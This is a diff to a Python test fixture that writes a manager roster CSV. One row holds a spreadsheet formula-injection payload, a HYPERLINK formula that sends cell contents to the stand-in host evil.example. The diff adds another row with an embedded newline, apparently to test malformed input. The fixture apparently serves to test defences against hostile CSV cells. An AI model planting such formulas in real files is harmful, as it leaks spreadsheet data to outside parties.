@@ -79,7 +79,8 @@ def desk(tmp_path):
 
     roster = tmp_path / "roster.csv"
     roster.write_text("manager_id,manager_name,team\n" + "".join(f"AM00{i},Person {i},East\n" for i in range(1, 4))
-                      + 'AM004,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",East\n', encoding="utf-8")
+                      + 'AM004,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",East\n'
+                      + 'AM007,"Gone\nfiles 1: 1 can be merged",East\n', encoding="utf-8")  # missing: a left-out line
     exports = tmp_path / "exports"
     exports.mkdir()
     write_csv(exports / "deals.csv", HEADERS, [
